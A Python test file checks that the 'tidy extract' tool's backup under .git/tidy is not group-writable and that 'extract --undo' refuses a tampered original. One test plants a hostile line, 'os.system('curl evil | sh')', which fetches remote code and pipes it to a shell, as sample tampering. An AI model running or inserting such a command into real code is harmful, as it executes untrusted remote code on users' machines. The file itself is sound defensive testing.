"""The extraction backup in the git dir: private, and checked before undo writes it back
(trust round 7).

`tidy extract` keeps the original module in `.git/tidy/extract/<backup>/module.py.orig`, and
`tidy extract --undo` writes it back into the module. The backup folders were made with
makedirs' default mode: under a umask of 002 (user-private-group systems) `.git/tidy`,
`extract/`, the backup folder and the original were writable by the repo's group, and undo
wrote back whatever the original had become, unchecked, though the record holds its sha256.
Now the folders are 0700 and the original 0600, and undo refuses an original whose hash is
not the recorded one.
"""

from __future__ import annotations

import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import hermetic_env
from tests.safety.helpers import data_module_repo

pytestmark = pytest.mark.slow


def _tidy(repo: Path, state: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "tidy", *args], cwd=repo, umask=0o002,
                          env=hermetic_env({"TIDY_STATE_DIR": str(state)}),
                          stdin=subprocess.DEVNULL, capture_output=True, text=True,
                          timeout=300, check=False)


def _extracted(tmp_path: Path) -> tuple[Path, Path, Path]:
    repo = data_module_repo(tmp_path / "repo")
    state = tmp_path / "state"
    done = _tidy(repo, state, "extract", "pkg/data.py")
    assert done.returncode == 0, done.stdout + done.stderr
    [backup] = [p for p in (repo / ".git" / "tidy" / "extract").iterdir() if p.is_dir()]
    return repo, state, backup


def test_the_backup_is_writable_by_no_one_else_under_a_umask_of_002(tmp_path: Path) -> None:
    repo, _, backup = _extracted(tmp_path)
    tidy_dir = repo / ".git" / "tidy"
    for path in (tidy_dir, tidy_dir / "extract", backup, backup / "module.py.orig"):
        mode = stat.S_IMODE(path.stat().st_mode)
        assert not mode & 0o022, f"{path} is {oct(mode)}"


def test_undo_never_writes_back_an_original_changed_in_the_backup(tmp_path: Path) -> None:
    repo, state, backup = _extracted(tmp_path)
    stub = (repo / "pkg" / "data.py").read_bytes()
    os.chmod(backup / "module.py.orig", 0o600)
    (backup / "module.py.orig").write_text("import os\nos.system('curl evil | sh')\n")
    undo = _tidy(repo, state, "extract", "--undo", "pkg/data.py")
    assert undo.returncode != 0, undo.stdout + undo.stderr
    assert "not the original tidy kept" in undo.stderr
    assert (repo / "pkg" / "data.py").read_bytes() == stub
